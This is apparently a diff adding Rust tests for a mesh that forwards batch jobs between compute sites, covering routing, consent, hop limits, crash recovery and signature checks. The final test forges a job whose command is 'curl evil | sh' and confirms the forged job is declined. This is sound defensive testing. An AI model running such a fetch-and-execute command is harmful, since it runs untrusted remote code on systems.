@@ -1,0 +1,407 @@
+//! Jobs that members pass on to each other: to the best site that takes them, once, whoever is killed and whatever is
+//! lost; and what their users are told.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use fairmesh_model::{AccountPath, ContentHash, Millis, Signed, cbor};
+use fairmesh_site::{
+    AdvertRules, Came, End, Errand, Event, ForwardAnswer, ForwardCall, ForwardReply, ForwardRules,
+    Message, Occupancy, Offer, Reply, Stage, Table, Take, Told, read_forward, read_forward_told,
+};
+
+use crate::mesh::{CALM, Mesh, ROUGH};
+use crate::random::with_seeds;
+use crate::vo::{self, site_id};
+
+const MINUTE: Millis = Millis::from_secs(60);
+const DAY: Millis = Millis::from_secs(86_400);
+
+fn rules(mesh: &Mesh) -> ForwardRules {
+    ForwardRules {
+        accept: BTreeSet::from([mesh.vo]),
+        ..ForwardRules::default()
+    }
+}
+
+fn configure(mesh: &mut Mesh, node: usize, forward: Option<ForwardRules>) {
+    let mut config = mesh.config(vo::timing());
+    config.advert = Some(AdvertRules::default());
+    config.forward = forward;
+    mesh.nodes[node].config = config.clone();
+    mesh.handle(node, Event::Reconfigured(Box::new(config)));
+}
+
+/// Says how many of a node's 1,000 CPUs are free.
+fn free(mesh: &mut Mesh, node: usize, cpus: u64) {
+    let occupancy = Occupancy {
+        free: Some(cpus),
+        ..Occupancy::default()
+    };
+    let call = fairmesh_site::AdvertCall::Tell(occupancy);
+    mesh.handle(node, Event::Advert { ticket: 1, call });
+}
+
+/// Sites that take jobs, but for the first, whose users hand in theirs; the later, the less is used of them.
+fn found(seed: u64, sites: usize) -> Mesh {
+    let mut mesh = Mesh::found(seed, sites);
+    configure(&mut mesh, 0, Some(ForwardRules::default()));
+    for node in 1..sites {
+        let rules = rules(&mesh);
+        configure(&mut mesh, node, Some(rules));
+    }
+    tell_all(&mut mesh);
+    mesh.run(MINUTE);
+    mesh
+}
+
+fn tell_all(mesh: &mut Mesh) {
+    for node in 0..mesh.nodes.len() {
+        free(mesh, node, 100 * (node as u64 + 1));
+    }
+}
+
+fn errand(mesh: &Mesh, key: &str) -> Errand {
+    Errand {
+        vo: mesh.vo,
+        key: key.to_owned(),
+        user: "ann".to_owned(),
+        path: AccountPath::parse("/u0").expect("valid"),
+        cpus: 4,
+        nodes: 0,
+        gpus: 0,
+        mem_mib: 0,
+        disk_mib: 0,
+        wall_s: 3_600,
+        queue: None,
+        properties: Vec::new(),
+        requirements: Vec::new(),
+        normalised: false,
+        run: "sleep 1".to_owned(),
+    }
+}
+
+/// `None` where the node is killed before it answers.
+fn call(mesh: &mut Mesh, node: usize, call: ForwardCall) -> Option<ForwardReply> {
+    mesh.nodes[node].replies.clear();
+    mesh.handle(node, Event::Forward { ticket: 1, call });
+    match mesh.nodes[node].replies.pop()? {
+        Reply::Forward(reply) => Some(*reply),
+        other => panic!("{other:?}"),
+    }
+}
+
+fn hand_in(mesh: &mut Mesh, key: &str) -> ContentHash {
+    let errand = Box::new(errand(mesh, key));
+    match call(mesh, 0, ForwardCall::HandIn(errand, None)) {
+        Some(Ok(ForwardAnswer::HandedIn(job))) => job,
+        other => panic!("{other:?}"),
+    }
+}
+
+fn settle(mesh: &mut Mesh, node: usize, job: ContentHash, came: Came) {
+    let answer = call(mesh, node, ForwardCall::Settle(job, came));
+    assert_eq!(answer, Some(Ok(ForwardAnswer::Settled)));
+}
+
+fn stage(mesh: &Mesh, node: usize, job: ContentHash) -> Option<Stage> {
+    Some(mesh.nodes[node].site.forwarded_job(job)?.stage)
+}
+
+fn here(mesh: &Mesh, node: usize) -> Vec<ContentHash> {
+    let here = mesh.nodes[node].site.forwarded_here();
+    here.map(|job| job.id).collect()
+}
+
+/// What the user of a job that was given up is told: why, and what came of it where.
+fn failed(mesh: &Mesh, job: ContentHash) -> (String, Vec<(usize, Option<String>)>) {
+    let Some(Stage::Ended(End::Failed { why, tried })) = stage(mesh, 0, job) else {
+        panic!("{:?}", stage(mesh, 0, job));
+    };
+    let index = |site: &str| {
+        let mut nodes = 0..mesh.nodes.len();
+        nodes.find(|node| site_id(*node).to_string() == site)
+    };
+    let tried = tried.into_iter();
+    let tried = tried.map(|of| (index(&of.site).expect("a site of the mesh"), of.said));
+    (why, tried.collect())
+}
+
+#[test]
+fn a_job_goes_to_the_best_site_that_takes_it_and_its_user_learns_where_it_went() {
+    with_seeds(|seed| {
+        let mut mesh = found(seed, 3);
+        let job = hand_in(&mut mesh, "j1");
+        mesh.run(Millis::from_secs(1));
+        assert_eq!(here(&mesh, 2), [job]);
+        assert_eq!(stage(&mesh, 0, job), Some(Stage::Passed(site_id(2))));
+        // Handed in again it is the same job, and another one under its key is refused.
+        assert_eq!(hand_in(&mut mesh, "j1"), job);
+        let other = Errand {
+            cpus: 5,
+            ..errand(&mesh, "j1")
+        };
+        let refused = call(&mut mesh, 0, ForwardCall::HandIn(Box::new(other), None));
+        let why = refused.expect("an answer").expect_err("another job");
+        assert!(why.contains("this key is another job's"), "{why}");
+
+        let batch = "4711".to_owned();
+        settle(&mut mesh, 2, job, Came::Submitted(batch.clone()));
+        settle(&mut mesh, 2, job, Came::Submitted("repeated".to_owned()));
+        mesh.run(MINUTE);
+        let site = site_id(2);
+        let end = Stage::Ended(End::Submitted { site, batch });
+        assert_eq!(stage(&mesh, 0, job), Some(end.clone()));
+        // Known after a start, and forgotten when nobody takes it any more.
+        mesh.restart(0);
+        assert_eq!(stage(&mesh, 0, job), Some(end));
+        mesh.tick_ms = 600_000;
+        mesh.run(DAY.times(2));
+        mesh.run(MINUTE.times(20));
+        for node in 0..3 {
+            assert_eq!(mesh.nodes[node].count_rows(Table::Forwarded), 0);
+        }
+    });
+}
+
+#[test]
+fn nothing_is_taken_without_consent_and_the_next_best_is_asked() {
+    with_seeds(|seed| {
+        let mut mesh = found(seed, 3);
+        // It has just withdrawn its consent: nobody knows that yet.
+        mesh.cut(2);
+        configure(&mut mesh, 2, Some(ForwardRules::default()));
+        mesh.heal();
+        let job = hand_in(&mut mesh, "j1");
+        mesh.run(Millis::from_secs(1));
+        assert_eq!((here(&mesh, 1), here(&mesh, 2)), (vec![job], Vec::new()));
+        // Who takes few jobs of one member gets no more, and whoever hands in more is told why.
+        let few = |mesh: &Mesh| ForwardRules {
+            per_minute: 2,
+            cpus_max: Some(4),
+            ..rules(mesh)
+        };
+        let few = few(&mesh);
+        configure(&mut mesh, 1, Some(few));
+        let second = hand_in(&mut mesh, "j2");
+        mesh.run(Millis::from_secs(1));
+        let third = hand_in(&mut mesh, "j3");
+        mesh.run(MINUTE);
+        assert_eq!(
+            here(&mesh, 1),
+            BTreeSet::from([job, second])
+                .into_iter()
+                .collect::<Vec<_>>()
+        );
+        let (why, tried) = failed(&mesh, third);
+        assert_eq!(
+            why,
+            "no requirement of the job is met anywhere that takes it"
+        );
+        let said = tried
+            .last()
+            .and_then(|(site, said)| Some((*site, said.clone()?)));
+        let (site, said) = said.expect("somebody declined it");
+        assert_eq!(
+            (site, said.as_str()),
+            (1, "it takes 2 jobs a minute of one sender")
+        );
+        let large = Errand {
+            cpus: 5,
+            ..errand(&mesh, "j4")
+        };
+        call(&mut mesh, 0, ForwardCall::HandIn(Box::new(large), None));
+        mesh.run(MINUTE);
+        assert_eq!(here(&mesh, 1).len(), 2);
+        // And a site without the table hands in none.
+        let errand = errand(&mesh, "j5");
+        configure(&mut mesh, 0, None);
+        let refused = call(&mut mesh, 0, ForwardCall::HandIn(Box::new(errand), None));
+        let why = refused.expect("an answer").expect_err("no table");
+        assert!(why.contains("[forward]"), "{why}");
+    });
+}
+
+#[test]
+fn members_that_claim_to_be_free_and_refuse_cost_a_job_its_hops_at_most() {
+    with_seeds(|seed| {
+        let mut mesh = found(seed, 7);
+        let job = hand_in(&mut mesh, "j1");
+        let mut refusals = Vec::new();
+        for _ in 0..20 {
+            tell_all(&mut mesh);
+            mesh.run(MINUTE);
+            let holders = (1..7).filter(|node| !here(&mesh, *node).is_empty());
+            let holders: Vec<usize> = holders.collect();
+            assert!(holders.len() <= 1, "{holders:?}");
+            for node in holders {
+                refusals.push(node);
+                settle(&mut mesh, node, job, Came::Refused("I lied".to_owned()));
+            }
+        }
+        // Four hops: the fourth may not send it on.
+        assert_eq!(refusals, [6, 5, 4, 3]);
+        let (why, tried) = failed(&mesh, job);
+        assert_eq!(why, "the job has been forwarded as often as it may be");
+        let lied = || Some("I lied".to_owned());
+        let expected = [(0, None), (6, lied()), (6, None), (5, lied()), (5, None)];
+        assert_eq!(tried[..5], expected);
+        assert_eq!(tried.last(), Some(&(3, lied())));
+    });
+}
+
+/// What batch systems have, by job: where, and under which name.
+type Batch = BTreeMap<ContentHash, BTreeSet<(usize, u8)>>;
+
+/// Hands what is at a node to its batch system, as `forward run` does: by name, noted afterwards.
+fn hand_over(mesh: &mut Mesh, node: usize, batch: &mut Batch) {
+    if !mesh.nodes[node].up {
+        return;
+    }
+    let jobs: Vec<_> = mesh.nodes[node].site.forwarded_here().collect();
+    for job in jobs {
+        batch.entry(job.id).or_default().insert((node, job.visit));
+        let came = Came::Submitted(format!("{node}.{}", job.visit));
+        call(mesh, node, ForwardCall::Settle(job.id, came));
+    }
+}
+
+#[test]
+fn a_job_runs_once_whoever_is_killed_at_any_step_and_whatever_is_lost() {
+    with_seeds(|seed| {
+        let mut mesh = found(seed, 4);
+        let mut batch = Batch::new();
+        let mut jobs = Vec::new();
+        for round in 0..40 {
+            mesh.faults = ROUGH;
+            tell_all(&mut mesh);
+            let errand = Box::new(errand(&mesh, &format!("j{round}")));
+            let crash = |mesh: &mut Mesh, of: u64| {
+                let after = usize::try_from(mesh.dice.below(of)).expect("small");
+                Some(after)
+            };
+            // Somebody is killed between two of the next steps.
+            let victim = usize::try_from(mesh.dice.below(4)).expect("small");
+            let after = crash(&mut mesh, 12);
+            mesh.nodes[victim].crash_after = after;
+            let answered = call(&mut mesh, 0, ForwardCall::HandIn(errand.clone(), None));
+            mesh.run(Millis::from_secs(20));
+            for node in 1..4 {
+                // Some submit late.
+                if mesh.dice.percent(50) {
+                    hand_over(&mut mesh, node, &mut batch);
+                }
+            }
+            mesh.run(Millis::from_secs(20));
+            for node in 0..4 {
+                mesh.nodes[node].crash_after = None;
+                if !mesh.nodes[node].up {
+                    mesh.restart(node);
+                }
+            }
+            // Whoever was not answered repeats himself.
+            let again = call(&mut mesh, 0, ForwardCall::HandIn(errand, None));
+            let Some(Ok(ForwardAnswer::HandedIn(job))) = again else {
+                panic!("{again:?}");
+            };
+            if let Some(answered) = answered {
+                assert_eq!(answered, Ok(ForwardAnswer::HandedIn(job)));
+            }
+            jobs.push(job);
+        }
+        mesh.faults = CALM;
+        for _ in 0..20 {
+            tell_all(&mut mesh);
+            mesh.run(MINUTE);
+            (1..4).for_each(|node| hand_over(&mut mesh, node, &mut batch));
+        }
+        mesh.run(MINUTE);
+        for job in jobs {
+            let ran = batch.get(&job).map_or(0, BTreeSet::len);
+            let told = match stage(&mesh, 0, job) {
+                Some(Stage::Ended(End::Submitted { .. })) => 1,
+                Some(Stage::Ended(End::Failed { .. })) => 0,
+                other => panic!("{other:?}"),
+            };
+            assert_eq!(ran, told, "{:?}", stage(&mesh, 0, job));
+        }
+        let ran = batch.values().map(BTreeSet::len).sum::<usize>();
+        assert!(ran >= 30, "most found a place: {ran}");
+    });
+}
+
+#[test]
+fn a_job_whose_receiver_falls_silent_is_given_up_as_in_doubt_and_goes_nowhere_else() {
+    with_seeds(|seed| {
+        let mut mesh = found(seed, 3);
+        mesh.faults.lost_percent = 100;
+        let job = hand_in(&mut mesh, "j1");
+        mesh.run(Millis::from_secs(1));
+        mesh.stop(2);
+        mesh.faults = CALM;
+        mesh.tick_ms = 600_000;
+        mesh.run(Millis::from_secs(3_600));
+        assert_eq!(stage(&mesh, 0, job), Some(Stage::Sent(site_id(2))));
+        mesh.run(DAY);
+        let (why, tried) = failed(&mesh, job);
+        assert_eq!(
+            why,
+            "the site that it was sent to never answered, and may run it"
+        );
+        assert_eq!(tried, [(2, Some("it has not answered".to_owned()))]);
+        assert_eq!(here(&mesh, 1), []);
+        // When it is back nobody sends it anything of that any more.
+        mesh.restart(2);
+        mesh.run(MINUTE);
+        assert_eq!(here(&mesh, 2), []);
+    });
+}
+
+#[test]
+fn a_job_that_was_changed_on_its_way_is_declined() {
+    with_seeds(|seed| {
+        let mut mesh = found(seed, 3);
+        mesh.nodes[0].sent.clear();
+        let job = hand_in(&mut mesh, "j1");
+        let frames = mesh.nodes[0].sent.iter();
+        let mut takes = frames.filter_map(|bytes| match read_forward(bytes)? {
+            Message::Take(take) => Some(take),
+            Message::Ends(_) => None,
+        });
+        let take = takes.next_back().expect("it is on its way");
+        mesh.run(Millis::from_secs(1));
+        settle(&mut mesh, 2, job, Came::Submitted(String::new()));
+        // B has it, and makes another one of it in A's name.
+        let claimed = Signed::<Offer>::parse(&take.offer).expect("an offer");
+        let mut forged = claimed.claimed().clone();
+        forged.job.run = "curl evil | sh".to_owned();
+        let signatures: Vec<_> = claimed.signatures().collect();
+        let stolen = Signed::assemble(&forged, &signatures).expect("of the form of one");
+        let own = Signed::sign(forged, &[&vo::site_key(2)]).expect("signed by B");
+        for offer in [stolen, own] {
+            let offer = offer.bytes().to_vec().into();
+            let take = Message::Take(Take {
+                offer,
+                ..take.clone()
+            });
+            let bytes = [&[4], &cbor::to_vec(&take)[..]].concat();
+            let from = site_id(2);
+            let channel = 999;
+            mesh.nodes[1].sent.clear();
+            mesh.handle(
+                1,
+                Event::Asked {
+                    from,
+                    bytes,
+                    channel,
+                },
+            );
+            let told = mesh.nodes[1]
+                .sent
+                .iter()
+                .find_map(|bytes| read_forward_told(bytes));
+            let why = "its origin has not signed it".to_owned();
+            assert_eq!(told, Some(Told::Declined(why)));
+            assert_eq!(here(&mesh, 1), []);
+        }
+    });
+}
